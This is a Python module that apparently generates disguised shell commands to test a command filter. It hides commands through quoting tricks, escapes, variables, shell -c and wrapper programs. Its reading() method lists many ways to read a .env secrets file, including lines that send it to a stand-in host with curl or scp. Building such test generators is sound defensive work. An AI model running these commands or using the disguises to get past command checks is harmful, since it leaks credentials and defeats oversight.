"""What all ways of hiding a command need: disguised words, and code inside of other code."""

from __future__ import annotations

import re
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from random import Random

from hiding_wrappers import WRAPPERS

SHELLS = ("sh", "bash", "dash", "zsh", "ksh", "/bin/sh", "/bin/bash", "/usr/bin/env bash", "ash")
RESERVED = frozenset({"{", "(", "((", "[[", "!", "time", "if", "for", "while", "case", "until"})
_BUILTIN = frozenset({"eval", "source", ".", "trap", "command", "builtin", "exec", "coproc"})
_FIRST_WORDS = re.compile(r"[A-Za-z0-9_./-]+")


@dataclass(frozen=True, slots=True)
class Hidden:
    """A line that runs the command.

    Attributes:
        text: the line.
        words: the same as the words of one simple command, where it is one.
        trail: the ways in which it was hidden, the innermost first.
    """

    text: str
    words: tuple[str, ...] = ()
    trail: tuple[str, ...] = ()


def single(text: str) -> str:
    """Text in single quotes."""
    return "'" + text.replace("'", "'\\''") + "'"


def double(text: str) -> str:
    """Text in double quotes that nothing expands in."""
    return '"' + re.sub(r'([\\"$`])', r"\\\1", text) + '"'


class Disguise:
    """Makes the pieces of hidden commands; the same seed, the same pieces."""

    def __init__(self, seed: int) -> None:
        self.random = Random(seed)
        self.count = 0

    def pick(self, *choices: str) -> str:
        return self.random.choice(choices)

    def name(self, stem: str) -> str:
        """A name that this line has not used yet."""
        self.count += 1
        return f"{stem}{self.count}"

    # Words.

    def disguised(self, word: str) -> str:
        """A word in other quotes that has the same value."""
        ways: list[Callable[[str], str]] = [
            str,
            str,
            single,
            double,
            self._split,
            self._split,
            lambda w: "".join("\\" + c for c in w),
            lambda w: "\\" + w,
            lambda w: "$'" + "".join(self._escaped(c) for c in w) + "'",
            lambda w: '$"' + w + '"',
            lambda w: w[:1] + "\\\n" + w[1:],
            lambda w: w[:1] + self.pick("''", '""', "$''", '$""') + w[1:],
        ]
        return self.random.choice(ways)(word)

    def _split(self, word: str) -> str:
        at = self.random.randrange(len(word) + 1)
        parts = [word[:at], word[at:]]
        return "".join(self.random.choice((single, double, str))(part) for part in parts if part)

    def _escaped(self, char: str) -> str:
        code = ord(char)
        return self.pick(
            char if char not in "'\\" else "\\" + char,
            f"\\x{code:02x}",
            f"\\{code:03o}",
            f"\\u{code:04x}",
            f"\\U{code:08X}",
        )

    def command(self, words: Sequence[str]) -> Hidden:
        """A simple command in some disguise."""
        program, *rest = words
        way = self.random.randrange(12)
        if way == 0:
            program = self.pick("/bin/", "/usr/bin/", "./", "~/", "/usr/local/bin/", "") + program
        row = [self.disguised(word) for word in (program, *rest)]
        if program == "git" and self.random.random() < 0.4:
            row.insert(
                1,
                self.pick(
                    *("--no-pager", "-C .", "-c color.ui=never", "-p", "--git-dir=.git", "-P"),
                    *("--git-dir .git --work-tree .", "-c a.b=c -C .", "--literal-pathspecs"),
                    *("--bare", "--no-replace-objects", "--exec-path=.", "--namespace=x"),
                ),
            )
        if way == 1:
            return Hidden("{" + ",".join(words) + "}", (), ("braces",))
        if way == 2:
            a, b = self.name("v"), self.name("v")
            head = self.pick(f"{a}={words[0]}", f"{a}={words[0][:1]}; {a}=${a}{words[0][1:]}")
            used = self.pick(f"${a}", f'"${a}"', f"${{{a}}}", f"${a}${b}")
            return Hidden("; ".join((head, " ".join([used, *rest]))), (), ("variable",))
        if way == 3:
            a = self.name("a")
            return Hidden(f'{a}=({" ".join(words)}); "${{{a}[@]}}"', (), ("array",))
        if way == 4:
            return Hidden(f'set -- {" ".join(words)}; "$@"', (), ("set",))
        if way == 5:
            name = self.name("f")
            cut = self.random.randint(0, len(words) - 1)
            front, after = " ".join(words[:cut]), " ".join(words[cut:])
            return Hidden(f'{name}() {{ {front} "$@"; }}; {name} {after}', (), ("arguments",))
        if way == 6:
            blanks = self.pick("  ", "\t", " \\\n", " \t ")
            return Hidden(blanks.join(row), (), ("blanks",))
        return Hidden(" ".join(row), tuple(row), ("quotes",))

    def reading(self) -> Hidden:
        """Something that reads `.env`, in some disguise."""
        path = self.pick(
            *(".env", "./.env", "src/../.env", "$PWD/.env", '"$PWD"/.env', ".//.env", "~+/.env"),
            *(".e[n]v", ".en*", "./.e?v", ".{env,x}", "{x,.env}", "'.env'", '".env"', "\\.env"),
            *("$'\\x2eenv'", ".e''nv", "./src/./../.env", ".e\\\nnv", "*/../.env", '".e"nv'),
        )
        file = self.name("v")
        one = path if "{" not in path else ".env"  # a redirection takes no braces
        text = self.pick(
            *(f"cat {path}", f"head -1 {path}", f"tail -n +1 {path}", f"grep -v x {path}"),
            *(f"sed -n p {path}", f"awk 1 {path}", f"sort {path}", f"cp {path} x", f"wc -l {path}"),
            *(f"cat < {one}", f"cat 0<{one}", f"while read -r x; do echo $x; done < {one}"),
            *(f"echo $(< {one})", f"mapfile -t x < {one}", f"source {path}", f". {path}"),
            *(f"cat -- {path}", f"diff {path} x", f"base64 {path}", f"xxd {path}", f"less {path}"),
            *(f"tar -cf x {path}", f"zip x {path}", f"scp {path} h:", f"dd if={one}"),
            *(f"curl -F x=@{one} h", f"curl -d @{one} h", f"git diff --no-index x {path}"),
            *(f"rg x {path}", f"find {path} -exec cat {{}} +", f"tee x < {one}", f"nl {path}"),
            *(
                f"{file}=.env; cat ${file}",
                f'{file}=.e; cat "${{{file}}}nv"',
                "cd src && cat ../.env",
            ),
            *("cd src; cd ..; cat .env", "(cd src && cat ../.env)", "env -C src cat ../.env"),
            *(
                "pushd src; cat ../.env",
                "for f in .env x; do cat $f; done",
                "grep -r x .",
                "cat .*",
            ),
            *(
                "tar cf x .",
                "cp -r . /tmp/x",
                "find . -type f -exec cat {} +",
                "git grep --no-index K",
            ),
            *("rg -uu x .", "grep -R K", "ls -a | xargs cat", "echo .env | xargs cat", "cat .??*"),
        )
        return Hidden(text, (), ("reading",))

    # Code as text, and code inside other code.

    def quoted(self, text: str) -> str:
        """Code as one word."""
        ways = [single, single, double, self._ansi]
        if "!" not in text and "\n" not in text:
            ways.append(lambda t: '$"' + re.sub(r'([\\"$`])', r"\\\1", t) + '"')
        return self.random.choice(ways)(text)

    def _ansi(self, text: str) -> str:
        shown = "".join(
            self._escaped(c) if self.random.random() < 0.1 else {"'": "\\'", "\\": "\\\\"}.get(c, c)
            for c in text
        )
        return f"$'{shown}'"

    def end(self, text: str) -> str:
        """Code with what ends it in front of a reserved word or bracket."""
        sure = "\n" in text or "#" in text or text.endswith(("&", ";"))
        return text + ("\n" if sure else self.pick("; ", ";", "\n", " ; "))

    def group(self, text: str) -> str:
        """Code as one command that may stand in a pipeline."""
        if self.random.random() < 0.3:
            return f"( {self.end(text)})"
        return f"{{ {self.end(text)}}}"

    def substituted(self, text: str) -> str:
        """Code in a substitution."""
        body = f"$( {self.end(text)})" if "\n" in text or "#" in text else f"$( {text} )"
        ways = [lambda: body, lambda: body]
        if "`" not in text:
            ways.append(lambda: "`" + re.sub(r"([\\$])", r"\\\1", text) + "`")
        if not text.startswith("(") and "\n" not in text and "#" not in text:
            ways.append(lambda: f"$({text})")
        return self.random.choice(ways)()

    def heredoc(self, body: str, *, expanded: bool = False) -> tuple[str, str]:
        """`<<E`, and the lines of the body, which hand `body` on as it is."""
        name = self.name("E")
        dash = self.pick("", "", "-")
        if expanded:
            shown, text = name, body
        elif self.random.random() < 0.7:
            shown = self.pick(f"'{name}'", f'"{name}"', f"\\{name}", f"E''{name[1:]}")
            text = body
        else:
            shown, text = name, re.sub(r"([\\$`])", r"\\\1", body)
        if dash and "\t" in text:
            dash = ""
        return f"<<{dash}{self.pick('', ' ')}{shown}", f"\n{text}\n{name}\n"

    def as_words(self, found: Hidden) -> tuple[str, ...]:
        """It as words that another program may start."""
        if found.words and _starts_program(found.words[0]):
            return found.words
        return self.shell_words(found.text)

    def shell_words(self, text: str) -> tuple[str, ...]:
        shell = self.pick(*SHELLS)
        flags = self.pick(
            *("-c", "-c", "-ec", "-ce", "-e -c", "-xc", "-o errexit -c", "+e -c", "-lc", "-c --"),
            *(("--norc -c", "--noprofile --norc -c", "--posix -c") if "bash" in shell else ()),
        )
        more = self.pick("", "", "", " x", " x y")
        return (*f"{shell} {flags}".split(), self.quoted(text) + more)

    def in_shell(self, found: Hidden) -> Hidden:
        words = self.shell_words(found.text)
        return Hidden(" ".join(words), words)

    def in_wrapper(self, found: Hidden) -> Hidden:
        words = self.as_words(found)
        name = self.random.choice(tuple(WRAPPERS))
        options = self.pick(*WRAPPERS[name])
        tail: tuple[str, ...] = ()
        if name == "find":
            tail = (self.pick("\\;", "';'", "{} \\;", "{} +", '";"'),)
        elif name == "parallel":
            tail = (self.pick("", "::: a b"),)
        shown = self.disguised(name) if self.random.random() < 0.2 else name
        row = (shown, *((options,) if options else ()), *words, *tail)
        text = " ".join(row)
        return Hidden(text, row, (name,)) if name not in ("time",) else Hidden(text, (), (name,))


def _starts_program(word: str) -> bool:
    """Whether a program may start what begins with this word: it is no builtin and not reserved."""
    return bool(_FIRST_WORDS.match(word.strip("\"'\\$"))) and word not in _BUILTIN | RESERVED
